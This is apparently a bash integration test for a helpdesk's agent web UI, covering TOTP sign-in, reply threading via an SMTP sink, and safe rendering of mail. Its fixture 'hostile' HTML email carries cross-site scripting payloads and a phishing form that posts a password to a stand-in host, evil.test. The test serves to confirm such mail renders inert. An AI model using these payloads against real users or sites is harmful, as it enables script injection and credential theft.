#!/bin/bash
# agent_browser.test.sh - the agents' workplace in headless Chromium
# (tests/browser/agent.js): a ticket arrives by mail, an agent signs in
# with password + TOTP and replies; the worker delivers the reply to a real
# SMTP sink with In-Reply-To/References of the customer's message; the
# customer's answer to our reply lands in the same ticket; a hostile HTML
# mail renders inert.
source "$(dirname "$0")/lib.sh"
BR="$HD_SRC/tests/browser"
[ -d "$BR/node_modules/playwright-core" ] || fail "run npm ci in tests/browser"
use_peers
mkdir -p "$HD_BIN/artifacts"
I=$T/inst
PW=correct-horse-battery-9
SECRET=JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP
"$HD" --data "$I" --profile test init >/dev/null
"$HD" --data "$I" queue add support --address support@support.test >/dev/null
echo "$PW" | "$HD" --data "$I" user add --email ann@support.test --name Ann --role agent --queues support >/dev/null
sql "$I" "INSERT INTO user_totp(user_id, secret, enabled, last_step, created_at) SELECT id, '$SECRET', 1, -1, 0 FROM user WHERE email = 'ann@support.test'"
start_smtp_sink
printf 'secret\n' > "$T/smtp.pw"
conf "$I" mail.from_address support@support.test
conf "$I" smtp.host 127.0.0.1
conf "$I" smtp.port "$SINK_PORT"
conf "$I" smtp.ca_file "$SINK_CA"
conf "$I" smtp.user agent
conf "$I" smtp.password_file "$T/smtp.pw"

"$MG" --data "$I" deliver --recipient support@support.test <<'MAIL' >/dev/null
From: Yamada <yamada@customer.test>
To: support@support.test
Subject: Cannot log in
Message-ID: <c1@customer.test>
Content-Type: text/plain; charset=UTF-8

I cannot log in since this morning.
MAIL
"$MG" --data "$I" deliver --recipient support@support.test <<'MAIL' >/dev/null
From: Mallory <mallory@evil.test>
To: support@support.test
Subject: Totally normal invoice
Message-ID: <evil1@evil.test>
MIME-Version: 1.0
Content-Type: text/html; charset=UTF-8

<html><body><script>window.__pwned=1;alert(1)</script>
<img src="x" onerror="window.__pwned=1;alert(2)">
<div style="width: expression(alert(3)); background:url(javascript:alert(4))">styled</div>
<a href="javascript:window.__pwned=1">click me</a>
<svg onload="window.__pwned=1"></svg>
<form action="https://evil.test/steal" method="post"><input name="password"><button>Log in again</button></form>
<img src="https://evil.test/track.png">
</body></html>
MAIL
"$HD" --data "$I" worker --once >/dev/null 2>&1   # the acknowledgements
before=$(sink_count)

"$WEB" --data "$I" --listen 127.0.0.1:0 >"$T/web.out" 2>"$T/web.log" &
WPID=$!
on_exit "kill $WPID 2>/dev/null; wait $WPID 2>/dev/null"
for _ in $(seq 1 100); do grep -q '^listening on' "$T/web.out" && break; sleep 0.05; done
URL=$(sed -n 's/^listening on //p' "$T/web.out")
[ -n "$URL" ] || fail "server did not start: $(cat "$T/web.log")"

T="$T" timeout 120 node "$BR/agent.js" "$URL" "$HD_BIN/artifacts" \
    ann@support.test "$PW" "$SECRET" 10001 10002 || fail "browser checks"

"$HD" --data "$I" worker --once >/dev/null 2>&1
assert_eq $((before + 1)) "$(sink_count)" "the worker delivered the reply"
reply=$(ls -t "$SINK_DIR"/msg-*.eml | head -1)
grep -qi '^In-Reply-To: <c1@customer.test>' "$reply" || fail "reply In-Reply-To"
grep -qi '^References: .*<c1@customer.test>' "$reply" || fail "reply References"
pass "reply threads under the customer's message"
ours=$(sed -n 's/^Message-I[Dd]: <\(.*\)>.*/\1/p' "$reply" | head -1)
[ -n "$ours" ] || fail "reply has a Message-ID"

"$MG" --data "$I" deliver --recipient support@support.test <<MAIL >/dev/null
From: Yamada <yamada@customer.test>
To: support@support.test
Subject: Re: Cannot log in
Message-ID: <c2@customer.test>
In-Reply-To: <$ours>
References: <c1@customer.test> <$ours>
Content-Type: text/plain; charset=UTF-8

It works again, thanks.
MAIL
t=$(sql "$I" "SELECT t.number FROM message m JOIN ticket t ON t.id = m.ticket_id WHERE m.message_id = 'c2@customer.test'")
assert_eq 10001 "$t" "the customer's answer joined the same ticket"
echo "all agent browser checks passed"
